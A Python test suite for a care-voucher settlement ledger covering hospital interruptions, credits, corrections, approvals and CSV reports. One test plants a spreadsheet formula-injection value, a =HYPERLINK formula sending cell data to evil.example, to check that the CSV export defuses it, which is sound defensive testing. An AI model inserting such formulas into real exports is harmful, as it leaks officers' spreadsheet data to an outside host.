"""The domain's worked examples through the ledger: interruptions by the rule, credits, corrections,
deletions and approvals, each paid exactly once and to the cent."""

from __future__ import annotations

import csv
import io
from typing import Any

T = "kouvola"
P1 = "p-paivansade"
HOSPITAL = "hospital"


def interruption(h: Any, interruption_id: str, start: str, end: str, segments: list[dict[str, Any]]) -> dict[str, Any]:
    from decimal import Decimal

    return {
        "interruption_id": interruption_id,
        "provider_id": P1,
        "producer_part": None,
        "client_ref": "A-1001",
        "content_id": "hoito",
        "service_id": "tehostettu",
        "start": start,
        "end": end,
        "reason": HOSPITAL,
        "segments": segments,
        "amount_tenant": str(sum(Decimal(s["amount_tenant"]) for s in segments)),
        "amount_co_payment": str(sum(Decimal(s["amount_co_payment"]) for s in segments)),
    }


async def test_july_interruption_is_paid_by_the_rule_in_the_july_settlement_made_in_august(
    harness: Any,
) -> None:
    h = harness
    await h.seed()
    # 004 §4.3.5.1: present 07-01; hospital 07-02 .. 07-17; present again from the return day 07-17.
    await h.event("e-1", "2015-07-01", "2015-07-01")
    await h.publish(
        "events.interruption.finalised",
        interruption(
            h,
            "i-1",
            "2015-07-02",
            "2015-07-17",
            [
                h.segment("2015-07-02", "2015-07-02", 1),  # departure day (day 0) 100 %
                h.segment("2015-07-03", "2015-07-12", 10),  # days 1-10 100 %
                h.segment("2015-07-13", "2015-07-16", 4, percentage="0"),  # days 11-14 0 %
                h.segment("2015-07-17", "2015-07-17", 1),  # return day 100 %, paid once
            ],
        ),
    )
    # The presence event starts on the return day; that day is already paid by the interruption.
    await h.event("e-2", "2015-07-17", "2015-07-31", segments=[h.segment("2015-07-18", "2015-07-31", 14)])
    june = await h.run("2015-06")
    assert june["total"] == "0.00"
    july = await h.run("2015-07")  # the settlement made in August for July
    assert h.payees(july) == {f"{P1}/-": "2430.00"}  # (1 + 1 + 10 + 0 + 1 + 14) days x 90.00
    payment = july["payments"][0]
    assert payment["interruption_ids"] == ["i-1"] and payment["event_ids"] == ["e-1", "e-2"]
    assert [ln["amount"] for ln in payment["lines"] if ln["kind"] == "interruption"] == [
        "90.00",
        "900.00",
        "0.00",
        "90.00",
    ]
    report = await h.client.get(
        f"/v1/tenants/{T}/reports/interruptions",
        params={"from": "2015-07", "to": "2015-07", "service_id": "tehostettu"},
        headers=h.admin,
    )
    assert report.json()["items"] == [
        {
            "interruption_id": "i-1",
            "service_id": "tehostettu",
            "provider_id": P1,
            "producer_part": None,
            "client_ref": "A-1001",
            "content_id": "hoito",
            "start": "2015-07-02",
            "end": "2015-07-17",
            "days": 16,
            "reason": "hospital",
            "amount_tenant": "1080.00",
            "amount_co_payment": "160.00",
            "credit": False,  # it ended in the report's months: no credit of an earlier absence
        }
    ]
    csv = await h.client.get(
        f"/v1/tenants/{T}/reports/interruptions",
        params={"from": "2015-07", "to": "2015-07", "format": "csv"},
        headers=h.admin,
    )
    assert csv.headers["content-type"].startswith("text/csv")
    empty = await h.client.get(f"/v1/tenants/{T}/reports/interruptions",
                               params={"from": "2015-01", "to": "2015-01", "format": "csv"}, headers=h.admin)
    assert empty.text.splitlines() == csv.text.splitlines()[:1]  # an empty month: the same header, no row
    assert csv.text.splitlines()[1].startswith("i-1,tehostettu,p-paivansade,,A-1001,hoito,2015-07-02,2015-07-17,16,")


async def test_interruption_across_months_is_paid_in_the_settlement_after_it_ended(harness: Any) -> None:
    h = harness
    await h.seed()
    # 004 §4.3.5.4: present 11-01..11-04, hospital from 11-05, the end (12-08) entered in December.
    await h.event("e-nov", "2015-11-01", "2015-11-04")
    november = await h.run("2015-11")  # the December settlement: the interruption is still open
    assert h.payees(november) == {f"{P1}/-": "360.00"}
    await h.publish(
        "events.interruption.finalised",
        interruption(
            h,
            "i-2",
            "2015-11-05",
            "2015-12-08",
            [
                h.segment("2015-11-05", "2015-11-05", 1),
                h.segment("2015-11-06", "2015-11-15", 10),
                h.segment("2015-11-16", "2015-11-30", 15, percentage="0"),
                h.segment("2015-12-01", "2015-12-07", 7, percentage="0"),
                h.segment("2015-12-08", "2015-12-08", 1),
            ],
        ),
    )
    await h.event("e-dec", "2015-12-08", "2015-12-31", segments=[h.segment("2015-12-09", "2015-12-31", 23)])
    rerun = await h.run("2015-11")  # a re-run of November pays none of it: it ended in December
    assert rerun["total"] == "0.00"
    december = await h.run("2015-12")  # the January settlement
    assert h.payees(december) == {f"{P1}/-": "3150.00"}  # interruption 12 days + December's 23 days, x 90.00
    lines = december["payments"][0]["lines"]
    assert [(ln["start"], ln["amount"]) for ln in lines if ln["kind"] == "interruption"][:2] == [
        ("2015-11-05", "90.00"),
        ("2015-11-06", "900.00"),
    ]
    assert (await h.run("2016-01"))["total"] == "0.00"


async def test_credit_is_deducted_in_the_next_months_payment(harness: Any) -> None:
    h = harness
    await h.seed()
    for n in (1, 2, 3):  # 004 §4.3.8: April, three events of 20.00
        await h.event(f"e-a{n}", f"2016-04-0{n}", f"2016-04-0{n}", share="20.00", price="20.00")
    april = await h.run("2016-04")
    assert h.payees(april) == {f"{P1}/-": "60.00"}
    await h.publish(
        "events.credit.requested",
        {
            "credit_id": "c-1",
            "event_id": "e-a3",
            "provider_id": P1,
            "producer_part": None,
            "client_ref": "A-1001",
            "content_id": "hoito",
            "service_id": "tehostettu",
            "amount": "-20.00",
            "reason": "wrong event",
            "month": "2016-05",
        },
    )
    assert (await h.run("2016-04"))["total"] == "0.00"  # not taken from April's already paid run
    await h.event("e-m1", "2016-05-02", "2016-05-03", share="20.00", price="20.00")
    may = await h.run("2016-05")
    assert h.payees(may) == {f"{P1}/-": "20.00"}  # 40.00 - 20.00
    assert may["payments"][0]["credit_ids"] == ["c-1"]
    lines = await h.client.get(f"/v1/tenants/{T}/events/e-a3/lines", headers=h.admin)
    assert [(ln["kind"], ln["amount"]) for ln in lines.json()["items"]] == [
        ("event", "20.00"),
        ("credit", "-20.00"),
    ]


async def test_credits_larger_than_the_payment_carry_the_balance_over(harness: Any) -> None:
    h = harness
    await h.seed()
    await h.publish(
        "events.credit.requested",
        {
            "credit_id": "c-2",
            "event_id": "e-x",
            "provider_id": P1,
            "producer_part": None,
            "client_ref": "A-1001",
            "content_id": "hoito",
            "service_id": "tehostettu",
            "amount": "-50.00",
            "reason": "duplicate",
            "month": "2016-06",
        },
    )
    june = await h.run("2016-06")
    assert june["payments"] == []
    assert [(c["amount"], c["reason"]) for c in june["carried_over"]] == [("-50.00", "negative_balance")]
    await h.event("e-j", "2016-07-01", "2016-07-01", share="100.00", price="100.00")
    july = await h.run("2016-07")
    assert h.payees(july) == {f"{P1}/-": "50.00"}


async def test_a_credit_of_a_month_already_run_is_deducted_once_in_the_next_run(harness: Any) -> None:
    # events dates a credit by the next run not yet made as far as it knows; one of April that reaches settlement
    # after April's run (made early, or the run's news still on its way) is deducted in May's run, once.
    h = harness
    await h.seed()
    await h.event("e-a1", "2016-04-01", "2016-04-01", share="20.00", price="20.00")
    assert h.payees(await h.run("2016-04")) == {f"{P1}/-": "20.00"}
    await h.publish("events.credit.requested", _credit("c-late", "e-a1", "-20.00", "2016-04"))
    await h.event("e-m1", "2016-05-02", "2016-05-02", share="50.00", price="50.00")
    may = await h.run("2016-05")
    assert h.payees(may) == {f"{P1}/-": "30.00"}  # 50.00 - 20.00
    assert may["payments"][0]["credit_ids"] == ["c-late"]
    assert (await h.run("2016-05"))["total"] == "0.00"  # a re-run deducts nothing again
    assert (await h.run("2016-06"))["total"] == "0.00"


def _credit(credit_id: str, event_id: str, amount: str, month: str) -> dict[str, Any]:
    return {"credit_id": credit_id, "event_id": event_id, "provider_id": P1, "producer_part": None,
            "client_ref": "A-1001", "content_id": "hoito", "service_id": "tehostettu", "amount": amount,
            "reason": "over the grant", "month": month}


async def test_a_withdrawn_credit_is_never_deducted_and_a_deducted_one_is_paid_back(harness: Any) -> None:
    # Issue 16: an event approved and credited before it was paid, then removed by a death recorded later:
    # events withdraws the credit. Not deducted yet: it never is. Already deducted: the next run repays it.
    h = harness
    await h.seed()
    await h.event("e-1", "2016-04-04", "2016-04-04", share="100.00", price="100.00")
    await h.publish("events.credit.requested", _credit("c-w", "e-x", "-30.00", "2016-04"))
    await h.publish("events.credit.withdrawn", {"credit_id": "c-w", "event_id": "e-x", "kind": "event",
                                                 "reason": "the voucher's validity ended"})
    april = await h.run("2016-04")
    assert h.payees(april) == {f"{P1}/-": "100.00"}  # the credit is gone, not deducted
    await h.publish("events.credit.requested", _credit("c-d", "e-1", "-100.00", "2016-05"))
    await h.event("e-2", "2016-05-02", "2016-05-02", share="150.00", price="150.00")
    assert h.payees(await h.run("2016-05")) == {f"{P1}/-": "50.00"}  # 150.00 - 100.00
    await h.publish("events.credit.withdrawn", {"credit_id": "c-d", "event_id": "e-1", "kind": "event",
                                                 "reason": "withdrawn"})
    assert h.payees(await h.run("2016-06")) == {f"{P1}/-": "100.00"}  # the deduction paid back


async def test_a_withdrawal_arriving_before_its_credit_keeps_the_credit_out(harness: Any) -> None:
    h = harness
    await h.seed()
    await h.publish("events.credit.withdrawn", {"credit_id": "c-o", "event_id": "e-x", "kind": "event",
                                                 "reason": "the voucher's validity ended"})
    await h.publish("events.credit.requested", _credit("c-o", "e-x", "-30.00", "2016-04"))
    await h.event("e-1", "2016-04-04", "2016-04-04", share="100.00", price="100.00")
    assert h.payees(await h.run("2016-04")) == {f"{P1}/-": "100.00"}


async def test_corrections_and_deletions_pay_the_difference_once(harness: Any) -> None:
    h = harness
    await h.seed()
    await h.event("e-1", "2016-03-01", "2016-03-10")  # 900.00
    await h.event("e-2", "2016-03-01", "2016-03-05")  # 450.00, corrected before any run
    corrected = await h.event("e-2", "2016-03-01", "2016-03-06", revision=2, corrected=True)  # 540.00
    await h.event("e-3", "2016-03-20", "2016-03-20")  # 90.00, deleted before any run
    await h.publish("events.event.deleted", {"event_id": "e-3", "revision": 1})
    await h.event("e-4", "2016-03-21", "2016-03-21")  # 90.00, paid, then deleted
    march = await h.run("2016-03")
    assert h.payees(march) == {f"{P1}/-": "1530.00"}  # 900 + 540 + 90
    # After payment: e-1 corrected to 8 days (720.00), e-4 deleted; both are re-delivered as well.
    await h.event("e-1", "2016-03-01", "2016-03-08", revision=2, corrected=True)
    deleted = await h.publish("events.event.deleted", {"event_id": "e-4", "revision": 1})
    await h.deliver(deleted)
    await h.deliver(corrected)
    await h.event("e-1", "2016-03-01", "2016-03-08", revision=2, corrected=True)  # same revision, new message
    await h.event("e-1", "2016-03-01", "2016-03-10", revision=1)  # a stale revision arriving late
    await h.event("e-5", "2016-04-01", "2016-04-05")  # 450.00
    april = await h.run("2016-04")
    assert h.payees(april) == {f"{P1}/-": "180.00"}  # 450 - 180 (e-1) - 90 (e-4)
    assert (await h.run("2016-04"))["total"] == "0.00"


async def test_over_limit_events_wait_for_approval_and_rejected_ones_disappear(harness: Any) -> None:
    h = harness
    await h.seed()
    await h.event("e-ok", "2016-03-01", "2016-03-01")
    await h.event("e-late", "2016-03-02", "2016-03-03", status="awaiting_approval")
    await h.event("e-no", "2016-03-04", "2016-03-04", status="awaiting_approval")
    report = await h.client.get(
        f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-03", "to": "2016-03"}, headers=h.admin
    )
    assert report.json()["items"][0]["units_awaiting_approval"] == "3"
    march = await h.run("2016-03")
    assert march["total"] == "90.00"
    await h.publish("events.event.approved", {"event_id": "e-late"})  # a late approval, after the run
    await h.publish("events.event.rejected", {"event_id": "e-no"})
    april = await h.run("2016-04")
    assert h.payees(april) == {f"{P1}/-": "180.00"}
    assert april["payments"][0]["event_ids"] == ["e-late"]
    report = await h.client.get(
        f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-03", "to": "2016-03"}, headers=h.admin
    )
    assert report.json() == {
        "total": 1,
        "items": [
            {
                "provider_id": P1,
                "client_ref": "A-1001",
                "content_id": "hoito",
                "content_name": "Hoito ja hoiva",
                "units_settled": "3",
                "amount_settled": "270.00",
                "co_payment": "30.00",
                "amount_unsettled": "0.00",
                "units_awaiting_approval": "0",
            }
        ],
    }


async def test_a_changed_interruption_pays_only_the_difference(harness: Any) -> None:
    h = harness
    await h.seed()
    first = interruption(h, "i-3", "2016-03-02", "2016-03-05", [h.segment("2016-03-02", "2016-03-05", 4)])
    envelope = await h.publish("events.interruption.finalised", first)
    assert h.payees(await h.run("2016-03")) == {f"{P1}/-": "360.00"}
    await h.deliver(envelope)
    await h.publish("events.interruption.finalised", first)  # the same fact in a new message
    # The provider corrects the return day: two days fewer, and the correction is paid in April.
    changed = interruption(h, "i-3", "2016-03-02", "2016-03-03", [h.segment("2016-03-02", "2016-03-03", 2)])
    await h.publish("events.interruption.finalised", changed)
    await h.event("e-apr", "2016-04-01", "2016-04-04")
    assert h.payees(await h.run("2016-04")) == {f"{P1}/-": "180.00"}  # 360 - 180
    report = await h.client.get(
        f"/v1/tenants/{T}/reports/interruptions", params={"from": "2016-03", "to": "2016-03"}, headers=h.admin
    )
    assert [(i["end"], i["days"], i["amount_tenant"]) for i in report.json()["items"]] == [("2016-03-03", 2, "180.00")]


async def test_realisation_report_per_client_and_producer_part_as_csv(harness: Any) -> None:
    h = harness
    await h.seed()
    await h.event("e-1", "2016-02-01", "2016-02-29", producer_part="s-1")
    await h.event("e-2", "2016-03-01", "2016-03-31", producer_part="s-1")
    await h.event("e-3", "2016-03-01", "2016-03-10", client_ref="A-1002")
    await h.run("2016-02")
    params = {"from": "2016-02", "to": "2016-03", "producer_part": "s-1", "format": "csv"}
    report = await h.client.get(f"/v1/tenants/{T}/reports/realisation", params=params, headers=h.admin)
    assert report.text.splitlines() == [
        "provider_id,client_ref,content_id,content_name,units_settled,amount_settled,co_payment,"
        "amount_unsettled,units_awaiting_approval",
        "p-paivansade,A-1001,hoito,Hoito ja hoiva,29,2610.00,290.00,2790.00,0",
    ]
    one = await h.client.get(
        f"/v1/tenants/{T}/reports/realisation",
        params={"from": "2016-03", "to": "2016-03", "client_ref": "A-1002"},
        headers=h.admin,
    )
    assert [(i["client_ref"], i["amount_unsettled"]) for i in one.json()["items"]] == [("A-1002", "900.00")]
    bad = await h.client.get(
        f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-03", "to": "2016-02"}, headers=h.admin
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "to"


async def test_realisation_csv_shows_a_formula_client_number_as_text_and_a_credit_as_a_number(harness: Any) -> None:
    """A client number typed as =HYPERLINK(...) must not become a live formula in the officer's
    spreadsheet; a correction's negative amount stays a number the officer can sum."""
    h = harness
    await h.seed()
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    await h.event("e-1", "2016-02-01", "2016-02-29", client_ref=formula)
    await h.event("e-2", "2016-02-01", "2016-02-10", client_ref="@SUM(A1:A9)")
    await h.run("2016-02")
    await h.event("e-1", "2016-02-01", "2016-02-10", client_ref=formula, revision=2, corrected=True)
    params = {"from": "2016-02", "to": "2016-02", "format": "csv"}
    report = await h.client.get(f"/v1/tenants/{T}/reports/realisation", params=params, headers=h.admin)
    rows = list(csv.reader(io.StringIO(report.text)))
    assert rows[1:] == [
        ["p-paivansade", "'" + formula, "hoito", "Hoito ja hoiva", "29", "2610.00", "290.00", "-1710.00", "0"],
        ["p-paivansade", "'@SUM(A1:A9)", "hoito", "Hoito ja hoiva", "10", "900.00", "100.00", "0.00", "0"],
    ]  # -1710.00 (19 days fewer x 90.00, not yet settled) is a number, left as it is
    as_json = await h.client.get(
        f"/v1/tenants/{T}/reports/realisation", params={"from": "2016-02", "to": "2016-02"}, headers=h.admin
    )
    assert [i["client_ref"] for i in as_json.json()["items"]] == [formula, "@SUM(A1:A9)"]  # the data is unchanged


async def test_ledger_lines_are_dated_by_the_injected_clock(harness: Any) -> None:
    """The consumers hand the ledger the runtime's clock (issue 18), not the wall clock: a line recorded
    while the test's clock says 2016-03-15 is dated then, and so are the reversal and the new line of a
    correction once the clock has moved."""
    from datetime import timedelta

    from seteli_settlement import repository as repo

    h = harness
    await h.seed()
    await h.event("e-1", "2016-03-01", "2016-03-03")
    recorded_at = h.clock.now()
    async with h.runtime.db.transaction(tenant_id=T) as session:
        lines = await repo.live_lines(session, T, "event", "e-1")
    assert [line["created_at"] for line in lines] == [recorded_at]

    h.clock.advance(timedelta(days=1))
    await h.event("e-1", "2016-03-01", "2016-03-04", revision=2, corrected=True)
    async with h.runtime.db.transaction(tenant_id=T) as session:
        lines = await repo.live_lines(session, T, "event", "e-1")
    assert [line["created_at"] for line in lines] == [recorded_at + timedelta(days=1)]


async def test_a_decision_on_an_earlier_revision_arriving_late_leaves_the_corrected_event_to_its_own(
    harness: Any,
) -> None:
    # The officer rejected an over-limit event; the provider corrected it (revision 2, waiting again) and the
    # officer approved that. The rejection of revision 1 reaches settlement only after the correction: it must not
    # reject revision 2, whose approval then pays it.
    h = harness
    await h.seed()
    await h.event("e-1", "2016-03-02", "2016-03-04", status="awaiting_approval")
    await h.event("e-1", "2016-03-02", "2016-03-03", status="awaiting_approval", revision=2, corrected=True)
    await h.publish("events.event.rejected", {"event_id": "e-1", "revision": 1})
    await h.publish("events.event.approved", {"event_id": "e-1", "revision": 2})
    assert h.payees(await h.run("2016-03")) == {f"{P1}/-": "180.00"}


async def test_a_report_of_a_period_with_nothing_in_it_still_has_its_header_row(harness: Any) -> None:
    """A program (or a person in Excel) opening the CSV of an empty month finds the columns it expects, the same
    as a month with rows gives, and no row: it was an empty file."""
    h = harness
    await h.seed()
    await h.event("e-1", "2016-02-01", "2016-02-10")
    await h.run("2016-02")
    for report in ("realisation", "interruptions"):
        url = f"/v1/tenants/{T}/reports/{report}"
        full = await h.client.get(url, params={"from": "2016-02", "to": "2016-02", "format": "csv"}, headers=h.admin)
        empty = await h.client.get(url, params={"from": "2015-01", "to": "2015-01", "format": "csv"}, headers=h.admin)
        assert empty.status_code == 200, empty.text
        header = list(csv.reader(io.StringIO(empty.text)))
        assert len(header) == 1 and "provider_id" in header[0] and "client_ref" in header[0], empty.text
        if report == "realisation":  # (February has no interruption)
            assert header[0] == list(csv.reader(io.StringIO(full.text)))[0]
